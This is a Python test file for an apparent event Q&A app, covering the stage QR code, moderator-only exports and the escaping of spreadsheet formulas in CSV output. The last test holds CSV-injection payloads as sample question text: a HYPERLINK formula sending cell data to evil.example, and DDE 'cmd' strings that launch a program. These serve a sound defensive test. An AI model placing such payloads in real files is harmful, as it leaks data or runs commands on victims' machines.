"""The stage screen's QR code and the moderators' exports."""

from __future__ import annotations

import csv
import io

import httpx
from conftest import Database, ServerFactory, seed


async def test_stage_qr_is_svg_of_the_join_link(
    sqlite_database: Database, start_server: ServerFactory
) -> None:
    demo = await seed(sqlite_database)
    server = await start_server(sqlite_database)

    async with httpx.AsyncClient(base_url=server.base_url) as http:
        qr = await http.get(f"/e/{demo.slug}/qr.svg")
        page = await http.get(f"/e/{demo.slug}/stage")

    assert qr.headers["content-type"] == "image/svg+xml"
    assert b"<svg" in qr.content
    assert f"<title>{server.base_url}/e/{demo.slug}</title>".encode() in qr.content
    assert page.status_code == 200


async def test_export_lists_questions_votes_and_merges_for_moderators_only(
    sqlite_database: Database, start_server: ServerFactory
) -> None:
    demo = await seed(sqlite_database)
    server = await start_server(sqlite_database)
    key = {"Authorization": f"Bearer {demo.moderator_key}"}
    base = f"/api/events/{demo.slug}"
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        for client_id, text in (
            ("q1", "How will you reform peacekeeping?"),
            ("q2", "What about peacekeeping reform, then?"),
        ):
            await http.post(
                f"{base}/actions/submit_question", json={"client_id": client_id, "text": text}
            )
        await http.post(
            f"{base}/actions/merge_questions",
            json={"client_id": "m1", "question_id": 2, "into_id": 1},
            headers=key,
        )
        anonymous = await http.get(f"{base}/export.csv")
        exported = await http.get(f"{base}/export.csv", headers=key)
        as_json = await http.get(f"{base}/export.json", headers=key)

    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert anonymous.status_code == 403
    assert [(r["id"], r["votes"], r["merged_into"], r["group_id"]) for r in rows] == [
        ("1", "1", "", "1"),
        ("2", "", "1", "1"),
    ]
    assert [e["action"] for e in as_json.json()["moderation_log"]] == ["merge"]


async def test_export_csv_neutralises_formulas(
    sqlite_database: Database, start_server: ServerFactory
) -> None:
    demo = await seed(sqlite_database)
    server = await start_server(sqlite_database)
    base = f"/api/events/{demo.slug}"
    texts = [
        '=HYPERLINK("https://evil.example/?d="&A1, "Click for details")',
        "+1+cmd|' /C calc'!A0 is this a question?",
        "-2+3+cmd|' /C calc'!A0 or this one?",
        "@SUM(1+1)*cmd|' /C calc'!A0 and this?",
        'Quotes ", commas, =signs inside are fine?',
    ]
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        for number, text in enumerate(texts):
            asked = await http.post(
                f"{base}/actions/submit_question", json={"client_id": f"f{number}", "text": text}
            )
            assert asked.status_code == 200
        exported = await http.get(
            f"{base}/export.csv", headers={"Authorization": f"Bearer {demo.moderator_key}"}
        )

    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["text"] for row in rows] == [
        "'" + texts[0],
        "'" + texts[1],
        "'" + texts[2],
        "'" + texts[3],
        texts[4],
    ]
    assert exported.text.splitlines()[1].startswith('"1","\'=HYPERLINK(""https://evil')
